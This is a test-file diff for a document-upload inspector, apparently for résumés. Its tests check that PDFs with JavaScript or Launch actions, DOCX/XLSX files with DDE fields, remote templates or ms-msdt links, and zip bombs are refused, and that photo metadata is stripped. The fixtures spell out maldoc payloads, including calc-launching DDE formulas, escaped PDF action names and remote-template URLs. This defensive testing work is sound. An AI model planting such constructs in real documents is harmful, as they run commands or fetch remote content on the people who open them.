@@ -8,11 +8,19 @@ import {
   concat,
   contentTypesXml,
   deflatedZeros,
+  deflatedZerosWithinRatio,
   docxEntries,
   elfExecutable,
+  heicPhoto,
+  jpegPhoto,
   minimalPdf,
   pdfOfSize,
+  pdfWith,
+  pngPhoto,
+  relationshipsXml,
   windowsExecutable,
+  withEntries,
+  wordDocumentXml,
   xlsxEntries,
   type ZipFixtureEntry,
 } from "./document-fixtures.ts";
@@ -34,6 +42,7 @@ describe("inspectDocument: PDF", () => {
       mediaType: "application/pdf",
       extension: "pdf",
       size: pdf.length,
+      bytes: pdf,
     });
   });
 
@@ -68,6 +77,122 @@ describe("inspectDocument: PDF", () => {
 
   it("refuses a header with no version", async () => {
     expect(await inspect(text("%PDF-\n%%EOF\n"))).toEqual(refused("corrupt-pdf"));
+  });
+});
+
+describe("inspectDocument: PDF active content", () => {
+  const javaScript = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
+
+  it("refuses JavaScript run on opening, on a page's additional actions, or from the names tree", async () => {
+    expect(await inspect(pdfWith({ catalog: `/OpenAction ${javaScript}` }))).toEqual(refused("pdf-active-content"));
+    expect(await inspect(pdfWith({ page: `/AA << /O ${javaScript} >>` }))).toEqual(refused("pdf-active-content"));
+    expect(await inspect(pdfWith({ catalog: "/Names << /JavaScript 4 0 R >>", objects: [`<< /Names [(a) ${javaScript}] >>`] }))).toEqual(
+      refused("pdf-active-content"),
+    );
+  });
+
+  it("refuses launching programs and sending or importing form data", async () => {
+    for (const action of [
+      "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
+      "<< /S /SubmitForm /F << /FS /URL /F (https://203.0.113.9/) >> >>",
+      "<< /S /ImportData /F (data.fdf) >>",
+    ]) {
+      expect(await inspect(pdfWith({ catalog: `/OpenAction ${action}` })), action).toEqual(refused("pdf-active-content"));
+    }
+  });
+
+  it("refuses embedded files and rich media", async () => {
+    const attached = pdfWith({
+      catalog: "/Names << /EmbeddedFiles << /Names [(cv.exe) 4 0 R] >> >>",
+      objects: ["<< /Type /Filespec /F (cv.exe) /EF << /F 5 0 R >> >>"],
+    });
+    expect(await inspect(attached)).toEqual(refused("pdf-embedded-file"));
+    expect(await inspect(pdfWith({ page: "/Annots [4 0 R]", objects: ["<< /Type /Annot /Subtype /RichMedia >>"] }))).toEqual(refused("pdf-embedded-file"));
+  });
+
+  it("reads names written with #xx escapes as the reader does", async () => {
+    expect(await inspect(pdfWith({ catalog: "/OpenAction << /S /J#61vaScript /#4A#53 (x) >>" }))).toEqual(refused("pdf-active-content"));
+    expect(await inspect(pdfWith({ catalog: "/OpenAction << /S /L#61unch /F (x) >>" }))).toEqual(refused("pdf-active-content"));
+  });
+
+  it("finds JavaScript packed into a compressed object stream, with or without its /Type", async () => {
+    const packed = { objects: ["<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"] };
+    expect(await inspect(pdfWith({ catalog: "/OpenAction 5 0 R", packed }))).toEqual(refused("pdf-active-content"));
+    expect(await inspect(pdfWith({ catalog: "/OpenAction 5 0 R", packed: { ...packed, dictionary: "" } }))).toEqual(refused("pdf-active-content"));
+    expect(await inspect(pdfWith({ catalog: "/OpenAction 5 0 R", packed: { ...packed, encoding: "none" } }))).toEqual(refused("pdf-active-content"));
+    const escaped = { objects: ["<< /S /J#61vaScript /JS (x) >>"] };
+    expect(await inspect(pdfWith({ catalog: "/OpenAction 5 0 R", packed: escaped }))).toEqual(refused("pdf-active-content"));
+  });
+
+  it("refuses an object stream it cannot read rather than waving it through", async () => {
+    const packed = { objects: ["<< /S /JavaScript /JS (x) >>"] };
+    expect(await inspect(pdfWith({ packed: { ...packed, encoding: "ascii-hex" } }))).toEqual(refused("pdf-too-complex"));
+    expect(await inspect(pdfWith({ packed: { ...packed, encoding: "predictor" } }))).toEqual(refused("pdf-too-complex"));
+    const broken = Buffer.from(pdfWith({ packed }));
+    const data = broken.indexOf("stream\n") + 7;
+    broken.fill(0x41, data, data + 8);
+    expect(await inspect(broken)).toEqual(refused("pdf-too-complex"));
+  });
+
+  it("refuses an object stream inflating past 32 MiB", async () => {
+    const filler = `<< /Filler (${"x".repeat(1024 * 1024)}) >>`;
+    const packed = { objects: Array.from({ length: 33 }, () => filler) };
+    expect(await inspect(pdfWith({ packed }))).toEqual(refused("pdf-too-complex"));
+  });
+
+  it("finds an object hidden between a stream keyword and endstream", async () => {
+    const hidden = pdfWith({ objects: ["<< /Length 999999 >>\nstream\n5 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\nendstream"] });
+    expect(await inspect(hidden)).toEqual(refused("pdf-active-content"));
+  });
+
+  it("keeps everyday PDFs: opening at a page, web links, links to other PDFs, packed objects, pictures whose bytes spell /JS", async () => {
+    const picture = Buffer.concat([Buffer.of(0xff, 0xd8, 0xff, 0xe0), Buffer.from(" /JS /JavaScript (", "latin1"), Buffer.alloc(64, 7), Buffer.of(0xff, 0xd9)]);
+    const image = Buffer.concat([
+      Buffer.from(
+        `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /Filter /DCTDecode /Length ${picture.length} >>\nstream\n`,
+        "latin1",
+      ),
+      picture,
+      Buffer.from("\nendstream", "latin1"),
+    ]).toString("latin1");
+    const pdf = pdfWith({
+      catalog: "/OpenAction [3 0 R /Fit] /Outlines 6 0 R",
+      page: "/Annots [4 0 R 5 0 R] /Resources << /XObject << /Im1 7 0 R >> >>",
+      objects: [
+        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://portfolio.example/) >> /AP << /N 7 0 R >> >>",
+        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (portfolio.pdf) /D [0 /Fit] >> >>",
+        "<< /Type /Outlines /First 8 0 R /Count 1 >>",
+        image,
+      ],
+      packed: { objects: ["<< /Title (職務経歴) /Parent 6 0 R >>", "<< /Producer (Example Writer) >>"] },
+    });
+    expect(await inspect(pdf)).toMatchObject({ ok: true, kind: "pdf" });
+  });
+});
+
+describe("inspectDocument: photos of a paper résumé", () => {
+  it.each([
+    ["JPEG", jpegPhoto, "jpeg", "image/jpeg"],
+    ["PNG", pngPhoto, "png", "image/png"],
+    ["HEIC", heicPhoto, "heic", "image/heic"],
+  ] as const)("accepts a %s photo by its content, whatever its name, and hands back a copy without its metadata", async (_, photo, kind, mediaType) => {
+    const upload = photo();
+    const verdict = await inspect(upload, "rirekisho.pdf");
+    expect(verdict).toMatchObject({ ok: true, kind, mediaType, extension: kind });
+    if (!verdict.ok) return;
+    expect(verdict.size).toBe(verdict.bytes.length);
+    expect(Buffer.from(verdict.bytes).includes("GPSLatitude")).toBe(false);
+    expect(Buffer.from(upload).includes("GPSLatitude")).toBe(true);
+  });
+
+  it("refuses a damaged photo, and one with more pixels than any camera takes", async () => {
+    const jpeg = jpegPhoto();
+    expect(await inspect(jpeg.subarray(0, 60), "photo.jpg")).toEqual(refused("corrupt-image"));
+    expect(await inspect(pngPhoto({ width: 100_000, height: 100_000 }), "photo.png")).toEqual(refused("image-too-large"));
+  });
+
+  it("refuses an ISO media file that is not a HEIC still image", async () => {
+    expect(await inspect(heicPhoto({ brands: ["avif", "\0\0\0\0", "mif1", "avif"] }), "photo.heic")).toEqual(refused("unsupported-type"));
   });
 });
 
@@ -155,6 +280,7 @@ describe("inspectDocument: DOCX and XLSX", () => {
       mediaType: DOCX_TYPE,
       extension: "docx",
       size: docx.length,
+      bytes: docx,
     });
   });
 
@@ -166,6 +292,7 @@ describe("inspectDocument: DOCX and XLSX", () => {
       mediaType: XLSX_TYPE,
       extension: "xlsx",
       size: xlsx.length,
+      bytes: xlsx,
     });
   });
 
@@ -218,6 +345,176 @@ describe("inspectDocument: DOCX and XLSX", () => {
     expect(await inspect(pptx, "resume.docx")).toEqual(refused("unsupported-type"));
     expect(await inspect(odt, "resume.docx")).toEqual(refused("unsupported-type"));
     expect(await inspect(plain, "resume.docx")).toEqual(refused("unsupported-type"));
+  });
+});
+
+describe("inspectDocument: links out of a DOCX or XLSX", () => {
+  const docxWith = (...extra: ZipFixtureEntry[]) => buildZip(withEntries(docxEntries(), extra));
+  const settingsRels = (target: string) => ({
+    name: "word/_rels/settings.xml.rels",
+    content: relationshipsXml([{ type: "attachedTemplate", target, external: true }]),
+    method: "deflate" as const,
+  });
+
+  it("refuses a DOCX that fetches its template from a web server or a share when opened", async () => {
+    expect(await inspect(docxWith(settingsRels("https://203.0.113.9/normal.dotm")), "resume.docx")).toEqual(refused("office-external-link"));
+    expect(await inspect(docxWith(settingsRels("\\\\203.0.113.9\\t\\normal.dotm")), "resume.docx")).toEqual(refused("office-external-link"));
+  });
+
+  it("keeps a DOCX made from a template on the author's own drive", async () => {
+    expect(await inspect(docxWith(settingsRels("file:///C:\\Users\\hanako\\Downloads\\rirekisho.dotx")), "resume.docx")).toMatchObject({ ok: true });
+  });
+
+  it("keeps a résumé with web and mail hyperlinks", async () => {
+    const rels = relationshipsXml([
+      { type: "hyperlink", target: "https://portfolio.example/hanako", external: true },
+      { type: "hyperlink", target: "mailto:hanako@example.jp", external: true },
+    ]);
+    expect(await inspect(docxWith({ name: "word/_rels/document.xml.rels", content: rels }), "resume.docx")).toMatchObject({ ok: true, kind: "docx" });
+  });
+
+  it("refuses a hyperlink that starts a program", async () => {
+    const rels = relationshipsXml([{ type: "hyperlink", target: "ms-msdt:/id PCWDiagnostic", external: true }]);
+    expect(await inspect(docxWith({ name: "word/_rels/document.xml.rels", content: rels }), "resume.docx")).toEqual(refused("office-external-link"));
+  });
+
+  it("refuses a linked OLE object, a frame and a linked picture", async () => {
+    for (const [name, type, reason] of [
+      ["word/_rels/document.xml.rels", "oleObject", "office-embedded-object"],
+      ["word/_rels/webSettings.xml.rels", "frame", "office-external-link"],
+      ["word/_rels/document.xml.rels", "image", "office-external-link"],
+    ] as const) {
+      const rels = relationshipsXml([{ type, target: "https://203.0.113.9/x", external: true }]);
+      expect(await inspect(docxWith({ name, content: rels }), "resume.docx"), type).toEqual(refused(reason));
+    }
+  });
+
+  it("refuses an XLSX linking to another workbook or a data source", async () => {
+    const rels = relationshipsXml([{ type: "externalLinkPath", target: "file://203.0.113.9/share/salaries.xlsx", external: true }]);
+    const xlsx = buildZip(withEntries(xlsxEntries(), [{ name: "xl/externalLinks/_rels/externalLink1.xml.rels", content: rels }]));
+    expect(await inspect(xlsx, "resume.xlsx")).toEqual(refused("office-external-link"));
+  });
+
+  it("refuses an embedded OLE object or ActiveX control", async () => {
+    const ole = docxWith(
+      { name: "word/_rels/document.xml.rels", content: relationshipsXml([{ type: "oleObject", target: "embeddings/oleObject1.bin" }]) },
+      { name: "word/embeddings/oleObject1.bin", content: compoundFile(["\u0001Ole10Native"]) },
+    );
+    const activeX = docxWith({ name: "word/activeX/activeX1.xml", content: "<ax:ocx/>" });
+    expect(await inspect(ole, "resume.docx")).toEqual(refused("office-embedded-object"));
+    expect(await inspect(activeX, "resume.docx")).toEqual(refused("office-embedded-object"));
+  });
+
+  it("finds the relationship whatever the part is called and however the markup is spelled", async () => {
+    const spelled = relationshipsXml([{ type: "attachedTemplate", target: "https://203.0.113.9/t.dotm" }]).replace(
+      "<Relationship ",
+      '<Relationship TargetMode="Ext&#101;rnal" ',
+    );
+    const utf16 = Buffer.concat([
+      Buffer.of(0xff, 0xfe),
+      Buffer.from(relationshipsXml([{ type: "attachedTemplate", target: "https://203.0.113.9/t.dotm", external: true }]), "utf16le"),
+    ]);
+    for (const [name, content] of [
+      ["word/_rels/settings.xml.rels", spelled],
+      ["WORD/_RELS/SETTINGS.XML.RELS", relationshipsXml([{ type: "attachedTemplate", target: "https://203.0.113.9/t.dotm", external: true }])],
+      ["word/_rels/settings.xml%2Erels", relationshipsXml([{ type: "attachedTemplate", target: "https://203.0.113.9/t.dotm", external: true }])],
+      ["word/_rels/settings.xml.rels", utf16],
+    ] as const) {
+      expect(await inspect(docxWith({ name, content, method: "deflate" }), "resume.docx"), name).toEqual(refused("office-external-link"));
+    }
+  });
+
+  it("refuses a part that declares a DTD, which a package may not carry", async () => {
+    const withDtd = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY t "DDEAUTO">]><w:document xmlns:w="x"/>`;
+    expect(await inspect(docxWith({ name: "word/document.xml", content: withDtd }), "resume.docx")).toEqual(refused("corrupt-office"));
+  });
+});
+
+describe("inspectDocument: DDE and other program links", () => {
+  const docxWithBody = (body: string, part = "word/document.xml") =>
+    buildZip(withEntries(docxEntries(), [{ name: part, content: wordDocumentXml(body), method: "deflate" }]));
+  const run = (inner: string) => `<w:r>${inner}</w:r>`;
+  const fieldChar = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
+  const instr = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
+  const paragraph = (...runs: string[]) => `<w:p>${runs.join("")}</w:p>`;
+
+  it("refuses a DDEAUTO field split across runs and spelled in mixed case", async () => {
+    const body = paragraph(
+      fieldChar("begin"),
+      instr(" dd"),
+      instr("EaUTo c:\\Windows\\System32\\cmd.exe "),
+      instr('"/k calc"'),
+      fieldChar("separate"),
+      run("<w:t>x</w:t>"),
+      fieldChar("end"),
+    );
+    expect(await inspect(docxWithBody(body), "resume.docx")).toEqual(refused("office-dde"));
+  });
+
+  it("refuses a DDE field in a simple field, a header, or written with references and CDATA", async () => {
+    expect(await inspect(docxWithBody(paragraph('<w:fldSimple w:instr="DDE cmd /c calc"/>')), "resume.docx")).toEqual(refused("office-dde"));
+    const header = docxWithBody(paragraph(fieldChar("begin"), instr("DDEAUTO cmd"), fieldChar("end")), "word/header1.xml");
+    expect(await inspect(header, "resume.docx")).toEqual(refused("office-dde"));
+    const spelled = paragraph(fieldChar("begin"), instr("&#68;<![CDATA[DE]]>AUTO cmd"), fieldChar("end"));
+    expect(await inspect(docxWithBody(spelled), "resume.docx")).toEqual(refused("office-dde"));
+  });
+
+  it("keeps everyday fields: page numbers, dates and hyperlinks", async () => {
+    const body = paragraph(
+      fieldChar("begin"),
+      instr(" PAGE "),
+      fieldChar("end"),
+      '<w:fldSimple w:instr=" DATE \\@ &quot;yyyy年M月d日&quot; "><w:r><w:t>2024年4月1日</w:t></w:r></w:fldSimple>',
+      fieldChar("begin"),
+      instr(' HYPERLINK "https://portfolio.example/" '),
+      fieldChar("separate"),
+      run("<w:t>portfolio</w:t>"),
+      fieldChar("end"),
+    );
+    expect(await inspect(docxWithBody(body), "resume.docx")).toMatchObject({ ok: true, kind: "docx" });
+  });
+
+  it("refuses a picture field that fetches from a web server when the file opens", async () => {
+    const body = paragraph(fieldChar("begin"), instr('INCLUDEPICTURE "https://203.0.113.9/pixel.png" \\d'), fieldChar("end"));
+    expect(await inspect(docxWithBody(body), "resume.docx")).toEqual(refused("office-external-link"));
+  });
+
+  const xlsxWith = (...extra: ZipFixtureEntry[]) => buildZip(withEntries(xlsxEntries(), extra));
+  const sheet = (cells: string) => ({
+    name: "xl/worksheets/sheet1.xml",
+    content: `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`,
+    method: "deflate" as const,
+  });
+
+  it("refuses an XLSX holding a DDE link", async () => {
+    const link = {
+      name: "xl/externalLinks/externalLink1.xml",
+      content: `<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="_xlbgnm.A1" advise="1"/></ddeItems></ddeLink></externalLink>`,
+    };
+    expect(await inspect(xlsxWith(link), "resume.xlsx")).toEqual(refused("office-dde"));
+  });
+
+  it("refuses a DDE formula, also written with a character reference for the |", async () => {
+    expect(await inspect(xlsxWith(sheet(`<c r="A1"><f>cmd|' /C calc'!A0</f><v>0</v></c>`)), "resume.xlsx")).toEqual(refused("office-dde"));
+    expect(await inspect(xlsxWith(sheet(`<c r="A1"><x:f xmlns:x="s">cmd&#124;' /C calc'!A0</x:f></c>`)), "resume.xlsx")).toEqual(refused("office-dde"));
+  });
+
+  it("refuses a defined name that is a DDE reference, and an external data connection", async () => {
+    const workbook = {
+      name: "xl/workbook.xml",
+      content: `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="r"><sheets><sheet name="職歴" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="x">cmd|'/c calc'!A0</definedName></definedNames></workbook>`,
+    };
+    const connections = {
+      name: "xl/connections.xml",
+      content: `<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4"><webPr url="https://203.0.113.9/q"/></connection></connections>`,
+    };
+    expect(await inspect(xlsxWith(workbook), "resume.xlsx")).toEqual(refused("office-dde"));
+    expect(await inspect(xlsxWith(connections), "resume.xlsx")).toEqual(refused("office-external-link"));
+  });
+
+  it("keeps ordinary formulas, and a | in a string", async () => {
+    const cells = `<c r="A1"><f>SUM(B1:B9)</f><v>3</v></c><c r="A2" t="str"><f>CONCAT("2020|",B2)</f><v>2020|x</v></c>`;
+    expect(await inspect(xlsxWith(sheet(cells)), "resume.xlsx")).toMatchObject({ ok: true, kind: "xlsx" });
   });
 });
 
@@ -343,6 +640,34 @@ describe("inspectDocument: zip bombs and archive limits", () => {
     expect(await inspect(buildZip(entries), "resume.docx")).toEqual(refused("archive-too-large"));
   });
 
+  it("refuses an entry whose headers claim 1 000 bytes but which inflates to 200 MiB", async () => {
+    const zeros = deflatedZeros(200 * 1024 * 1024);
+    const lying = { name: "word/media/image1.png", deflated: zeros.deflated, crc32: 0x1234_5678, uncompressedSize: 1000 };
+    const archive = buildZip([...docxEntries(), lying]);
+    expect(await inspect(archive, "resume.docx")).toEqual(refused("archive-too-large"));
+  });
+
+  it("refuses an entry that really inflates past 50 MiB at an ordinary ratio, whatever its headers claim", async () => {
+    const big = deflatedZerosWithinRatio(60 * 1024 * 1024);
+    const archive = buildZip([...docxEntries(), { name: "word/media/image1.png", deflated: big.deflated, crc32: big.crc32, uncompressedSize: 1000 }]);
+    expect(await inspect(archive, "resume.docx")).toEqual(refused("archive-too-large"));
+  });
+
+  it("refuses entries that each stay within bounds but really inflate past 100 MiB together", async () => {
+    const part = deflatedZerosWithinRatio(40 * 1024 * 1024);
+    const lying = [1, 2, 3].map((index) => ({ name: `word/media/image${index}.png`, deflated: part.deflated, crc32: part.crc32, uncompressedSize: 1000 }));
+    expect(await inspect(buildZip([...docxEntries(), ...lying]), "resume.docx")).toEqual(refused("archive-too-large"));
+  });
+
+  it("refuses an entry whose true size or CRC differs from its headers", async () => {
+    const docx = docxEntries();
+    const document = docx.find((entry) => entry.name === "word/document.xml") as ZipFixtureEntry;
+    const wrongSize = docx.map((entry) => (entry === document ? { ...entry, uncompressedSize: 12 } : entry));
+    const wrongCrc = docx.map((entry) => (entry === document ? { ...entry, crc32: 0x0bad_c0de } : entry));
+    expect(await inspect(buildZip(wrongSize), "resume.docx")).toEqual(refused("corrupt-office"));
+    expect(await inspect(buildZip(wrongCrc), "resume.docx")).toEqual(refused("corrupt-office"));
+  });
+
   it("refuses 1001 entries and accepts 1000", async () => {
     const padding = (count: number) => Array.from({ length: count }, (_, index) => ({ name: `word/media/p${index}.xml`, content: "" }));
     expect(await inspect(buildZip([...docxEntries(), ...padding(997)]), "resume.docx")).toMatchObject({
@@ -419,13 +744,32 @@ describe("inspectDocument: damaged or deceptive archives", () => {
 describe("inspectDocument: hostile input never throws", () => {
   const reasons = new Set<string>(DOCUMENT_REFUSALS);
   const isVerdict = (verdict: Awaited<ReturnType<typeof inspectDocument>>) =>
-    verdict.ok ? ["pdf", "docx", "xlsx"].includes(verdict.kind) : reasons.has(verdict.reason);
+    verdict.ok ? ["pdf", "docx", "xlsx", "jpeg", "png", "heic"].includes(verdict.kind) : reasons.has(verdict.reason);
 
   it("answers a verdict for any bytes", async () => {
     await fc.assert(
       fc.asyncProperty(fc.uint8Array({ maxLength: 512 }), fc.string(), async (bytes, fileName) => {
         expect(isVerdict(await inspectDocument({ bytes, fileName }))).toBe(true);
       }),
+      { numRuns: 200 },
+    );
+  });
+
+  it.each([
+    ["JPEG", jpegPhoto],
+    ["PNG", pngPhoto],
+    ["HEIC", heicPhoto],
+  ] as const)("answers a verdict for a %s photo with random bytes overwritten", async (_, photo) => {
+    const original = photo();
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(fc.tuple(fc.nat({ max: original.length - 1 }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }),
+        async (edits) => {
+          const bytes = original.slice();
+          for (const [position, value] of edits) bytes[position] = value;
+          expect(isVerdict(await inspectDocument({ bytes, fileName: "photo.jpg" }))).toBe(true);
+        },
+      ),
       { numRuns: 200 },
     );
   });
